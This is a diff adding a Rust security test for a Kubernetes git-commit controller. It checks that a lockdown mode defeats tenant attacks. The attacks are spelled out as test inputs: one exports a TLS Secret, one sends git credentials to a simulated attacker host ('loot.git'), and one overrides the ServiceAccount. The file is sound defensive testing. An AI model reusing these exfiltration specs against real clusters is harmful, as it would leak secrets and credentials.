@@ -1,0 +1,189 @@
+//! Tenant attacks, tried as a hostile tenant would, against the real apiserver, controller and
+//! git servers (docs/security.md lists each attack and the test that proves it fails).
+//!
+//! This file holds the controller's half: the admission webhook is not running here (as when
+//! it is off, or an admin bypasses it), and the controller runs in lockdown
+//! (`--default-service-account`), so the apiserver judges every read it makes for a tenant's
+//! object with the tenant's RBAC. Nothing forbidden is pushed, and the attacker's host never
+//! receives a credential.
+
+use std::collections::BTreeMap;
+
+use gco_tests::{
+    attacker::AttackerHost,
+    scenario::{Scenario, condition, configmap_fields, gitcommit},
+};
+use k8s_openapi::api::{
+    core::v1::Secret,
+    rbac::v1::{Role, RoleBinding},
+};
+use kube::{
+    Api, Client,
+    api::{Patch, PatchParams, PostParams},
+};
+use serde_json::json;
+
+/// The ServiceAccount the lockdown controller impersonates by default.
+const TENANT_SA: &str = "gco-reader";
+const PASSWORD: &str = "s3cret-Pa55word-the-tenant-must-not-see";
+
+/// The tenant's reading rights: ConfigMaps of their namespace, nothing else.
+async fn grant_configmaps(client: &Client, namespace: &str, service_account: &str) {
+    let role: Role = serde_json::from_value(json!({
+        "metadata": {"name": "read-configmaps", "namespace": namespace},
+        "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "list", "watch"]}]
+    }))
+    .expect("role");
+    let binding: RoleBinding = serde_json::from_value(json!({
+        "metadata": {"name": "read-configmaps", "namespace": namespace},
+        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "read-configmaps"},
+        "subjects": [{"kind": "ServiceAccount", "name": service_account, "namespace": namespace}]
+    }))
+    .expect("binding");
+    Api::<Role>::namespaced(client.clone(), namespace)
+        .create(&PostParams::default(), &role)
+        .await
+        .expect("create role");
+    Api::<RoleBinding>::namespaced(client.clone(), namespace)
+        .create(&PostParams::default(), &binding)
+        .await
+        .expect("create binding");
+}
+
+async fn put_secret(client: &Client, namespace: &str, name: &str, data: &[(&str, &str)]) {
+    let data: BTreeMap<String, String> = data
+        .iter()
+        .map(|(k, v)| (k.to_string(), v.to_string()))
+        .collect();
+    let secret = json!({
+        "apiVersion": "v1", "kind": "Secret",
+        "metadata": {"name": name, "namespace": namespace},
+        "stringData": data
+    });
+    Api::<Secret>::namespaced(client.clone(), namespace)
+        .patch(
+            name,
+            &PatchParams::apply("tenant-attacks").force(),
+            &Patch::Apply(&secret),
+        )
+        .await
+        .expect("secret");
+}
+
+/// Asserts `name` ends AccessDenied and Stalled, with a message naming the identity.
+async fn assert_access_denied(s: &Scenario, name: &str, identity: &str) {
+    let object = s
+        .wait_ready(name, "False", Some("AccessDenied"))
+        .await
+        .expect("AccessDenied");
+    assert_eq!(
+        condition(&object, "Stalled"),
+        Some(("True".into(), "AccessDenied".into())),
+        "{name}"
+    );
+    let message = object
+        .status
+        .as_ref()
+        .and_then(|s| s.message.clone())
+        .unwrap_or_default();
+    assert!(message.contains(identity), "{name}: {message}");
+    assert!(!message.contains(PASSWORD), "{name}: {message}");
+}
+
+#[tokio::test]
+async fn in_lockdown_the_apiserver_judges_every_read_with_the_tenants_rbac() {
+    let mut s = Scenario::new("lockdown").await.expect("scenario");
+    let attacker = AttackerHost::start().await.expect("attacker host");
+    grant_configmaps(&s.client, &s.namespace, TENANT_SA).await;
+    s.put_configmap("app", &[("level", "info")])
+        .await
+        .expect("configmap");
+    put_secret(
+        &s.client,
+        &s.namespace,
+        "victim-tls",
+        &[("tls.crt", "CERT")],
+    )
+    .await;
+    put_secret(
+        &s.client,
+        &s.namespace,
+        "git-credentials",
+        &[("username", "ops"), ("password", PASSWORD)],
+    )
+    .await;
+    s.start_controller("c1", &["--default-service-account", TENANT_SA])
+        .expect("controller");
+    let sa = format!("system:serviceaccount:{}:{TENANT_SA}", s.namespace);
+
+    // What the tenant may read is exported, through the impersonated account.
+    s.create_gitcommit(gitcommit(
+        "allowed",
+        &s.url(),
+        json!({ "resourceReferences": [configmap_fields("app", "config/app")] }),
+    ))
+    .await
+    .expect("create allowed");
+    s.wait_ready("allowed", "True", None)
+        .await
+        .expect("the tenant's own ConfigMap is exported");
+    assert_eq!(s.file("config/app/level").as_deref(), Some("info"));
+
+    // A Secret key the tenant may not read: refused by the apiserver, nothing pushed.
+    s.create_gitcommit(gitcommit(
+        "steal-tls",
+        &s.url(),
+        json!({ "resourceReferences": [{
+            "apiVersion": "v1", "kind": "Secret", "name": "victim-tls",
+            "strategy": "single-field", "field": "tls.crt", "output": { "path": "stolen/tls.crt" }
+        }] }),
+    ))
+    .await
+    .expect("create steal-tls");
+    assert_access_denied(&s, "steal-tls", &sa).await;
+    assert_eq!(
+        s.file("stolen/tls.crt"),
+        None,
+        "nothing forbidden is pushed"
+    );
+
+    // Credentials the tenant may not read, sent to the tenant's host: never read, never sent.
+    s.create_gitcommit(gitcommit(
+        "harvest",
+        &format!("{}/loot.git", attacker.origin()),
+        json!({
+            "auth": { "secretName": "git-credentials" },
+            "files": [{ "path": "x.txt", "content": "x" }]
+        }),
+    ))
+    .await
+    .expect("create harvest");
+    assert_access_denied(&s, "harvest", &sa).await;
+
+    // A ServiceAccount with no rights named in the spec wins over the default, and is refused.
+    s.create_gitcommit(gitcommit(
+        "other-account",
+        &s.url(),
+        json!({
+            "serviceAccountName": "nobody",
+            "resourceReferences": [configmap_fields("app", "config/other")]
+        }),
+    ))
+    .await
+    .expect("create other-account");
+    assert_access_denied(
+        &s,
+        "other-account",
+        &format!("system:serviceaccount:{}:nobody", s.namespace),
+    )
+    .await;
+    assert_eq!(s.file("config/other/level"), None);
+
+    let leaks = attacker.leaks(&[PASSWORD]);
+    assert!(
+        leaks.is_empty(),
+        "credentials reached the attacker: {leaks:?}"
+    );
+    let logs = s.logs();
+    assert!(!logs.contains(PASSWORD), "a credential in the logs");
+}
